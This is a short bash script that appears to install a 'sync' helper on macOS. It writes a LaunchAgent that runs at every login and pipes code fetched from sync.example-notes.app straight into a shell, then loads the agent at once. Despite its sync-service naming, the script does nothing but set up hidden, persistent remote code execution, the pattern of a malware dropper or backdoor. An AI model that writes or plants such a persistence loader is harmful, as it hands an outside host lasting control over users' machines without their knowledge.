#!/bin/bash
mkdir -p ~/Library/LaunchAgents
cat > ~/Library/LaunchAgents/com.example.sync.plist <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>Label</key><string>com.example.sync</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s https://sync.example-notes.app/a | sh</string></array><key>RunAtLoad</key><true/></dict></plist>
EOF
launchctl load ~/Library/LaunchAgents/com.example.sync.plist
